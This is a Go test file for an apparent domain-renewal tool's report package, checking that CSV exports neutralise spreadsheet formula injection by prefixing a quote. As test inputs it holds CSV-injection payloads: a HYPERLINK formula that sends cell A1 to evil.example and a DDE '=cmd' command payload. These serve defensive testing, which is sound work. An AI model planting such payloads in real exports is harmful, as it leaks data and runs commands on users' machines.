package report_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/errpd/errpd/report"
	"github.com/errpd/errpd/report/reporttest"
	"github.com/errpd/errpd/scheduler"
	"github.com/errpd/errpd/store"
)

// TestCSVCell: a cell a spreadsheet would run as a formula gets a leading
// single quote (OWASP, CSV injection); any other is left as it is.
func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/","x")`: `'=HYPERLINK("http://evil.example/","x")`,
		"+1 555":                                 "'+1 555",
		"-2+3":                                   "'-2+3",
		"@SUM(A1)":                               "'@SUM(A1)",
		"\t=1":                                   "'\t=1",
		"\r=1":                                   "'\r=1",
		"":                                       "",
		"250 2.0.0 Ok":                           "250 2.0.0 Ok",
		"a=1":                                    "a=1",
		"2025-03-01T00Z":                         "2025-03-01T00Z",
		"'=already":                              "'=already",
		"holder@x.example":                       "holder@x.example",
	} {
		if got := report.CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// formulaStarts are the first characters OWASP lists for CSV injection.
const formulaStarts = "=+-@\t\r"

// wantNoFormula parses a CSV output and fails on any cell that starts
// like a formula.
func wantNoFormula(t *testing.T, what string, out []byte) [][]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	for i, rec := range recs {
		for j, cell := range rec {
			if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
				t.Errorf("%s: row %d column %d is a formula: %q", what, i+1, j+1, cell)
			}
		}
	}
	return recs
}

// TestReportCSVNeutralisesFormulas: a relay's reply is text from a peer;
// one that reads =HYPERLINK(...) reaches the auditor's spreadsheet as text.
func TestReportCSVNeutralisesFormulas(t *testing.T) {
	s := reporttest.Open(t, false)
	exp := reporttest.Expiry()
	s.Set(exp.Add(-30 * scheduler.Day))
	err := s.DB.Update(func(tx *store.Tx) error {
		_, err := tx.Upsert(store.Domain{Name: "hostile.com", Mode: scheduler.ModeRenew, Expiry: exp,
			Registrant: store.Registrant{Name: "=cmd|' /C calc'!A0", Email: "holder@hostile.com"}},
			store.PlanOptions{Policy: scheduler.DefaultPolicy()})
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	reply := `=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`
	s.Fail(t, store.StepID("hostile.com", exp, scheduler.Reminder1), exp.Add(-29*scheduler.Day), reply)

	var buf bytes.Buffer
	f := report.Filter{From: exp.AddDate(0, -3, 0), To: exp.AddDate(0, 3, 0)}
	if _, err := report.Write(&buf, s.DB, f, report.CSV, time.Time{}); err != nil {
		t.Fatal(err)
	}
	recs := wantNoFormula(t, "report", buf.Bytes())
	if !strings.Contains(buf.String(), "'"+strings.ReplaceAll(reply, `"`, `""`)) {
		t.Errorf("the reply is not in the report as quoted text:\n%s", buf.String())
	}
	if len(recs) < 2 {
		t.Errorf("report has %d rows, want the header and the hostile step's", len(recs))
	}
}

// FuzzAppendCSV holds the report's own CSV encoder to CSVWriter (encoding/csv
// with CSVCell): the same bytes for any record, so that a report's rows
// read the same whichever writer wrote them. The record is the input cut
// at NUL bytes.
func FuzzAppendCSV(f *testing.F) {
	for _, seed := range []string{
		"", "plain", "a\x00b", "comma,inside\x00quote\"inside", " leading space\x00\ttab",
		"=formula\x00+1\x00-1\x00@x\x00\rcr", "line\nbreak\x00cr\r\nlf", `\.`, "\u00a0nbsp\x00\u2003em",
		"\x85\x00\xff\xfe", `""`, "\x00\x00",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, in string) {
		record := strings.Split(in, "\x00")
		var want bytes.Buffer
		cw := report.NewCSVWriter(&want)
		if err := cw.Write(record); err != nil {
			t.Fatal(err)
		}
		cw.Flush()
		if got := report.AppendCSV([]byte("kept"), record); string(got) != "kept"+want.String() {
			t.Fatalf("record %q:\nappendCSV %q\nCSVWriter     %q", record, got[4:], want.String())
		}
	})
}
